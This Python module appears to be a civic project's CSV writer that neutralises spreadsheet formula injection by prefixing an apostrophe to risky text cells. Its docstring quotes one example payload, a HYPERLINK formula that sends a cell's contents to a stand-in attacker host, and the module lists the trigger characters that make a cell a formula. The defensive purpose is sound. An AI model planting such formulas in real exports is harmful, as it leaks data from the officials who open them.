"""The one CSV writer of Maeul, and the formula rule every CSV file follows.

A spreadsheet opening a CSV file treats a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some programs, a tab or a carriage return) as a formula: a resident's proposal titled
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would run on an official's computer when the
public results download is opened in Excel (CSV/formula injection, OWASP). So every text cell
that starts with one of those characters is written with a leading apostrophe, which makes
spreadsheets show the text and never evaluate it.

Only *text* is neutralised: numbers are given to the writer as numbers (``int``, ``Decimal``,
``Fraction``, ``float``), so a negative amount stays ``-5`` and a spreadsheet still reads it as
a number. Callers with typed columns (``maeul.exports``) pass typed values; everything that is
a ``str`` is text.

The rule is reversible (``restore``), so files Maeul writes and reads back — the jury draw's
public record replayed by ``maeul jury replay`` — round-trip exactly: a text that already
starts with apostrophes followed by a trigger character gets one more apostrophe, and reading
removes exactly one. The Pabulib ``.pb`` format is not written here: it is a research format
read by other tools (pabutools), not a spreadsheet file, and must keep names byte for byte.

Pure Python (no Django), so the engines' command-line tools use the same writer.
"""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from fractions import Fraction
from typing import TextIO

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (or strip it into one)."""

QUOTE = "'"


def _needs_prefix(text: str) -> bool:
    rest = text.lstrip(QUOTE)
    return rest[:1] in FORMULA_TRIGGERS and rest != ""


def neutralise(text: str) -> str:
    """The cell text a spreadsheet shows as written: ``'=1+1`` for ``=1+1``."""
    return QUOTE + text if _needs_prefix(text) else text


def restore(text: str) -> str:
    """Undo :func:`neutralise` (for reading back a file Maeul wrote)."""
    if text.startswith(QUOTE) and _needs_prefix(text):
        return text[1:]
    return text


def cell_text(value: object) -> str:
    """One cell as CSV text: text neutralised, numbers as plain numbers, ``None`` empty."""
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | Fraction):
        return str(value)
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, dt.date):  # dates and datetimes (a datetime is a date)
        return value.isoformat()
    raise TypeError(
        f"CSV cell: {type(value).__name__} is neither text nor a number; convert it first"
    )


_QUOTE_IF = (",", '"', "\n", "\r")


def _field(text: str) -> str:
    """RFC 4180 quoting. Written by hand because ``csv.writer`` with ``\\n`` line ends leaves
    a carriage return unquoted, which splits the row in a spreadsheet."""
    if any(ch in text for ch in _QUOTE_IF):
        return '"' + text.replace('"', '""') + '"'
    return text


def write_rows(out: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    """Write a header and rows to ``out`` (``\\n`` line ends, minimal quoting)."""
    _line(out, [neutralise(str(name)) for name in header])
    for row in rows:
        _line(out, [cell_text(value) for value in row])


def _line(out: TextIO, cells: list[str]) -> None:
    if cells == [""]:
        out.write('""\n')  # one empty cell, not a blank line readers would skip
        return
    out.write(",".join(_field(cell) for cell in cells) + "\n")


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]], *, bom: bool = False) -> str:
    """CSV text; ``bom`` prefixes a byte-order mark so that Excel reads Korean correctly."""
    buffer = io.StringIO()
    if bom:
        buffer.write("\ufeff")
    write_rows(buffer, header, rows)
    return buffer.getvalue()
